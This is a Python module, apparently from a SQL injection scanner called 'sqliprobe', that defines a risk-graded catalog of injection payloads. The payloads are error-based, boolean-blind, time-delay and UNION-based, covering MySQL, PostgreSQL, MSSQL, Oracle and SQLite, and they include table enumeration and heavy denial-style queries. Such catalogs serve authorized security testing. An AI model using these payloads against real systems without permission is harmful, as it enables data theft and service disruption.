"""
Payload catalog.

Built once at import time (``DEFAULT_CATALOG``) and never mutated; every
checker receives the same instance and only reads from it.

The time checker reads only ``delay_sets()`` and the union checker builds
its ORDER BY / UNION SELECT strings from the column count it discovers.
The standalone time-blind and union-based entries in the flat list are
reference data for ``select()``/``values()`` callers (manual follow-up,
reporting); no checker sends them.

Use ONLY against systems you own or are explicitly authorized to test.
"""

from dataclasses import dataclass
from typing import List, Optional, Tuple

from sqliprobe.core.models import InjectionType

ALL = "all"
MAX_RISK = 5
SAFE_RISK = 2


@dataclass(frozen=True)
class Payload:
    value: str
    technique: InjectionType
    database: str = ALL           # "mysql", "postgres", "mssql", "oracle", "sqlite" or "all"
    risk: int = 1                 # 1 read-only .. 5 most aggressive
    description: str = ""

    def __post_init__(self):
        if not 1 <= self.risk <= MAX_RISK:
            raise ValueError(f"risk must be 1..{MAX_RISK}: {self.risk}")

    def matches(self, database: Optional[str]) -> bool:
        return (database is None or self.database == ALL
                or self.database.lower() == database.lower())


@dataclass(frozen=True)
class BooleanPair:
    true: Payload
    false: Payload

    @property
    def risk(self) -> int:
        return max(self.true.risk, self.false.risk)


@dataclass(frozen=True)
class TimePayload:
    payload: Payload
    expected_delay_ms: int

    @property
    def value(self) -> str:
        return self.payload.value


@dataclass(frozen=True)
class TimePayloadSet:
    """Payloads for one engine with distinct expected delays, incl. a 0 ms control."""
    database: str
    payloads: Tuple[TimePayload, ...]

    @property
    def risk(self) -> int:
        return max(p.payload.risk for p in self.payloads)


@dataclass(frozen=True)
class PayloadCatalog:
    payloads: Tuple[Payload, ...]
    boolean_pairs: Tuple[BooleanPair, ...] = ()
    time_sets: Tuple[TimePayloadSet, ...] = ()

    def __post_init__(self):
        object.__setattr__(self, "payloads", tuple(self.payloads))
        object.__setattr__(self, "boolean_pairs", tuple(self.boolean_pairs))
        object.__setattr__(self, "time_sets", tuple(self.time_sets))

    # ── queries ────────────────────────────────────────────────

    def select(self, technique: InjectionType, database: Optional[str] = None,
               max_risk: int = MAX_RISK) -> List[Payload]:
        """Payloads of *technique*, in catalog order, filtered by affinity and risk."""
        return [p for p in self.payloads
                if p.technique is technique and p.matches(database) and p.risk <= max_risk]

    def values(self, technique: InjectionType, database: Optional[str] = None,
               max_risk: int = MAX_RISK) -> List[str]:
        return [p.value for p in self.select(technique, database, max_risk)]

    def safe(self, technique: InjectionType) -> List[Payload]:
        return self.select(technique, max_risk=SAFE_RISK)

    def pairs(self, database: Optional[str] = None,
              max_risk: int = MAX_RISK) -> List[Tuple[str, str]]:
        return [(bp.true.value, bp.false.value) for bp in self.boolean_pairs
                if bp.true.matches(database) and bp.risk <= max_risk]

    def delay_sets(self, database: Optional[str] = None,
                   max_risk: int = MAX_RISK) -> List[TimePayloadSet]:
        return [s for s in self.time_sets
                if (database is None or s.database == database) and s.risk <= max_risk]

    def __len__(self):
        return len(self.payloads)


# ── Built-in payloads ───────────────────────────────────────────

def _p(value, technique, database=ALL, risk=1, description=""):
    return Payload(value, technique, database, risk, description)


_E = InjectionType.ERROR_BASED
_B = InjectionType.BOOLEAN_BLIND
_T = InjectionType.TIME_BLIND
_U = InjectionType.UNION_BASED

_ERROR_PAYLOADS = [
    # Syntax breakers, every engine
    _p("'", _E, description="Single quote"),
    _p("''", _E, description="Double single quote"),
    _p('"', _E, description="Double quote"),
    _p('""', _E, description="Double double quote"),
    _p("`", _E, "mysql", description="Backtick"),
    _p("``", _E, "mysql", description="Double backtick"),
    # MySQL
    _p("' OR '1", _E, "mysql", description="MySQL error trigger"),
    _p("' AND '1'='2", _E, "mysql", description="MySQL boolean false"),
    _p("' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))", _E, "mysql", 2, "MySQL EXTRACTVALUE"),
    _p("' AND UPDATEXML(1,CONCAT(0x7e,VERSION()),1)", _E, "mysql", 2, "MySQL UPDATEXML"),
    _p("' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(VERSION(),0x3a,FLOOR(RAND(0)*2))x "
       "FROM INFORMATION_SCHEMA.TABLES GROUP BY x)y)--", _E, "mysql", 3, "MySQL double query"),
    # PostgreSQL
    _p("' AND 1=CAST('x' AS INTEGER)--", _E, "postgres", 2, "PostgreSQL type cast error"),
    _p("' AND 1=PG_SLEEP(0)--", _E, "postgres", description="PostgreSQL function test"),
    # MSSQL
    _p("' AND 1=CONVERT(INT,'x')--", _E, "mssql", 2, "MSSQL type conversion error"),
    _p("' AND 1=(SELECT @@version)--", _E, "mssql", description="MSSQL version query"),
    # Oracle
    _p("' AND 1=UTL_INADDR.GET_HOST_NAME('x')--", _E, "oracle", 3, "Oracle UTL_INADDR"),
    _p("' AND 1=(SELECT BANNER FROM V$VERSION WHERE ROWNUM=1)--", _E, "oracle",
       description="Oracle version query"),
    # SQLite
    _p("' AND 1=SQLITE_VERSION()--", _E, "sqlite", description="SQLite version"),
]

_BOOLEAN_PAIRS = [
    BooleanPair(_p("' AND '1'='1", _B, description="Always true condition"),
                _p("' AND '1'='2", _B, description="Always false condition")),
    BooleanPair(_p("' AND 1=1--", _B, description="Numeric true"),
                _p("' AND 1=2--", _B, description="Numeric false")),
    BooleanPair(_p(" AND 1=1", _B, description="Unquoted numeric true"),
                _p(" AND 1=2", _B, description="Unquoted numeric false")),
    BooleanPair(_p("' AND SUBSTRING(VERSION(),1,1)='5'--", _B, "mysql",
                   description="MySQL version check true"),
                _p("' AND SUBSTRING(VERSION(),1,1)='9'--", _B, "mysql",
                   description="MySQL version check false")),
    BooleanPair(_p("' AND ASCII(SUBSTRING(DATABASE(),1,1))>64--", _B, "mysql", 2,
                   "MySQL database name probe"),
                _p("' AND ASCII(SUBSTRING(DATABASE(),1,1))>255--", _B, "mysql", 2,
                   "MySQL database name probe (false)")),
    BooleanPair(_p("' AND ASCII(SUBSTRING(CURRENT_DATABASE(),1,1))>64--", _B, "postgres", 2,
                   "PostgreSQL database name probe"),
                _p("' AND ASCII(SUBSTRING(CURRENT_DATABASE(),1,1))>255--", _B, "postgres", 2,
                   "PostgreSQL database name probe (false)")),
    BooleanPair(_p("' AND ASCII(SUBSTRING(DB_NAME(),1,1))>64--", _B, "mssql", 2,
                   "MSSQL database name probe"),
                _p("' AND ASCII(SUBSTRING(DB_NAME(),1,1))>255--", _B, "mssql", 2,
                   "MSSQL database name probe (false)")),
]


def _delays(database, template, seconds, risk=1):
    return TimePayloadSet(database, tuple(
        TimePayload(_p(template.format(s=s), _T, database, risk,
                       f"{database} delay {s}s"), s * 1000)
        for s in seconds))


_TIME_SETS = [
    _delays("mysql", "' AND SLEEP({s})--", (0, 3, 5)),
    _delays("postgres", "'; SELECT PG_SLEEP({s})--", (0, 3, 5)),
    _delays("mssql", "'; WAITFOR DELAY '00:00:0{s}'--", (0, 3, 5)),
    _delays("oracle", "' AND DBMS_LOCK.SLEEP({s})--", (0, 3, 5), risk=2),
]

_EXTRA_TIME_PAYLOADS = [
    _p("1' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--", _T, "mysql", description="MySQL subquery sleep"),
    _p("' AND BENCHMARK(10000000,MD5('A'))--", _T, "mysql", 3, "MySQL BENCHMARK"),
    _p("' AND (SELECT 1 FROM PG_SLEEP(5))--", _T, "postgres", description="PostgreSQL sleep subquery"),
    _p("' AND 1=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,"
       "sysusers AS sys4,sysusers AS sys5)--", _T, "mssql", 4, "MSSQL heavy query"),
    _p("' AND RANDOMBLOB(100000000)--", _T, "sqlite", 4, "SQLite heavy operation"),
]

_UNION_PAYLOADS = [
    _p("' UNION SELECT NULL--", _U, description="Union 1 column"),
    _p("' UNION SELECT NULL,NULL--", _U, description="Union 2 columns"),
    _p("' UNION SELECT NULL,NULL,NULL--", _U, description="Union 3 columns"),
    _p("' UNION SELECT NULL,NULL,NULL,NULL--", _U, description="Union 4 columns"),
    _p("' UNION SELECT NULL,NULL,NULL,NULL,NULL--", _U, description="Union 5 columns"),
    _p("' UNION ALL SELECT VERSION(),DATABASE(),USER()--", _U, "mysql", 2, "MySQL union info"),
    _p("' UNION ALL SELECT VERSION(),CURRENT_DATABASE(),CURRENT_USER--", _U, "postgres", 2,
       "PostgreSQL union info"),
    _p("' UNION ALL SELECT @@VERSION,DB_NAME(),USER_NAME()--", _U, "mssql", 2, "MSSQL union info"),
    _p("' UNION ALL SELECT table_name,NULL,NULL FROM information_schema.tables--", _U, "mysql", 3,
       "MySQL table enumeration"),
]


def build_default_catalog() -> PayloadCatalog:
    flat = list(_ERROR_PAYLOADS)
    for pair in _BOOLEAN_PAIRS:
        flat += [pair.true, pair.false]
    for tset in _TIME_SETS:
        flat += [tp.payload for tp in tset.payloads]
    flat += _EXTRA_TIME_PAYLOADS
    flat += _UNION_PAYLOADS
    return PayloadCatalog(tuple(flat), tuple(_BOOLEAN_PAIRS), tuple(_TIME_SETS))


DEFAULT_CATALOG = build_default_catalog()
